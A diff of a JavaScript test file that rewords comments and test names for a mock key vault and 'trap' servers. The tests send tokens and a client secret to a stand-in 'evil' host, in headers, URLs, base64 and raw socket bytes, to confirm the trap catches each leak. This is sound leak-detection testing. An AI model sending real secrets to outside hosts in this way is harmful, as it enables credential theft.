@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// A trap hears everything: what is sent to it, in whatever dress, is counted and known again. A trap that heard nothing
-// because it is deaf would prove nothing.
+// A trap records everything: whatever is sent to it, in any encoding, is counted and recognised. Otherwise a trap that
+// saw nothing would prove nothing.
 
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
@@ -30,7 +30,7 @@ const token = async () => (await vault.signIn({
 	grant_type: 'client_credentials', client_id: 'app', client_secret: SECRET, scope: 'https://vault.azure.net/.default',
 }, TENANT)).json.access_token;
 
-/** Sends a request to the trap and returns what it noted of it. */
+/** Sends a request to the trap and returns what the trap recorded. */
 async function caught(url, options = {}) {
 	await vault.control('DELETE', '/traps');
 	await call(url, { ca: vault.ca, ...options });
@@ -39,12 +39,12 @@ async function caught(url, options = {}) {
 	return { counts: traps.evil, ...requests[0] };
 }
 
-test('nothing was sent: every count is 0, while the vault itself was used', async () => {
+test('nothing was sent: every count is 0, although the vault itself was used', async () => {
 	assert.equal((await vault.call(`/secrets/s?${API}`, { token: await token() })).json.value, VALUE);
 	assert.deepEqual(await report(), { total: NOTHING, traps: { evil: NOTHING, quiet: NOTHING }, requests: [] });
 });
 
-test('a request without anything secret counts, and leaks nothing', async () => {
+test('a request without secrets is counted, and leaks nothing', async () => {
 	for (const url of [evil.url, evil.http]) {
 		const { counts, leaks, method, authorization } = await caught(`${url}/secrets?${API}`);
 		assert.deepEqual([leaks, method, authorization], [[], 'GET', null]);
@@ -53,7 +53,7 @@ test('a request without anything secret counts, and leaks nothing', async () => 
 	}
 });
 
-test('a token in a header, on TLS and in the clear', async () => {
+test('a token in a header, over TLS and in the clear', async () => {
 	const value = await token();
 	for (const url of [evil.url, evil.http]) {
 		const { counts, leaks, authorization } = await caught(`${url}/secrets?${API}`, { headers: { Authorization: `Bearer ${value}` } });
@@ -82,7 +82,7 @@ test('a client secret in a form, in the URL, in base64; secrets, keys and tokens
 	assert.deepEqual((await caught(`${evil.url}/?s=${encodeURIComponent(SECRET)}`)).leaks, ['secret of app']);
 });
 
-test('bytes that are no HTTP are kept and searched too', async () => {
+test('bytes that are not HTTP are kept and searched too', async () => {
 	await vault.control('DELETE', '/traps');
 	await new Promise((done) => {
 		const socket = connect(Number(new URL(evil.http).port), '127.0.0.1', () => socket.write(`\x16\x03\x01 ${SECRET}\r\n\r\n`));
@@ -92,14 +92,14 @@ test('bytes that are no HTTP are kept and searched too', async () => {
 	assert.deepEqual([total.connections, total.requests, total.leaks], [1, 0, 1]);
 });
 
-test('a client that does not get through TLS is seen, with nothing said', async () => {
+test('a client whose TLS handshake fails is noted, with no data', async () => {
 	await vault.control('DELETE', '/traps');
 	await call(evil.url);
 	const { total } = await report();
 	assert.deepEqual([total.connections, total.bytes, total.leaks], [1, 0, 0]);
 });
 
-test('it tempts: a challenge, then empty answers; a token for who asks', async () => {
+test('it tempts: a challenge, then empty answers; a token for anybody who asks', async () => {
 	const first = await call(`${evil.url}/secrets`, { ca: vault.ca });
 	assert.deepEqual([first.status, /resource="https:\/\/vault.azure.net"/.test(first.headers['www-authenticate'])], [401, true]);
 	const second = await call(`${evil.url}/secrets`, { ca: vault.ca, headers: { Authorization: 'Bearer x' } });
@@ -108,7 +108,7 @@ test('it tempts: a challenge, then empty answers; a token for who asks', async (
 	assert.equal(third.status, 200);
 });
 
-test('placeholders and names lead to it', async () => {
+test('placeholders and names resolve to the trap', async () => {
 	const value = await token();
 	const { tags } = (await vault.call(`/secrets/s?${API}`, { token: value })).json;
 	assert.equal(tags.to, `${evil.url}/x ${quiet.http}`);
@@ -118,7 +118,7 @@ test('placeholders and names lead to it', async () => {
 	assert.equal((await report()).traps.quiet.requests, 1);
 });
 
-test('a connection that outlives DELETE /traps is still heard', async () => {
+test('a connection that outlives DELETE /traps is still recorded', async () => {
 	const agent = vault.agent;
 	await call(`${evil.url}/`, { agent });
 	await vault.control('DELETE', '/traps');
